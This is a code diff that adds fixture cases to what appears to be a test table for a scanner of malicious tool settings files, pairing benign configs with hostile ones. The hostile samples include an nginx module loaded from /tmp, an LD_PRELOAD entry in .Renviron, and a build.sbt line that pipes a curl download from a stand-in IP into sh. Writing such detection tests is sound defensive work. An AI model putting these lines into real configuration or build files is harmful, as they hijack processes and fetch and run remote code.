@@ -136,6 +136,12 @@ for _name, _filename, _text, _bad in (
         'model_checkpoint_path: "model.ckpt-100"\nall_model_checkpoint_paths: "/home/ann/run/model.ckpt-90"\n',
         False,
     ),
+    ("server_module", "nginx.conf", "load_module /tmp/x.so;\\nevents {}\\n", True),
+    ("server_plain", "nginx.conf", "load_module modules/ngx_http_js_module.so;\\nevents {}\\n", False),
+    ("renviron_preload", ".Renviron", "LD_PRELOAD=/tmp/x.so\\n", True),
+    ("renviron_plain", ".Renviron", "R_LIBS_USER=~/R/library\\n", False),
+    ("sbt_process", "build.sbt", 'import sys.process._\\n"curl http://203.0.113.9/x" #| "sh" !\\n', True),
+    ("sbt_plain", "build.sbt", 'name := "x"\\nscalaVersion := "3.4.0"\\n', False),
     ("extension_installs", "install.py", f"import launch\nlaunch.run('{_SHELL}')\n", True),
 ):
     file(f"settings.{_name}", _filename, _text, "tools' settings", malicious=_bad)
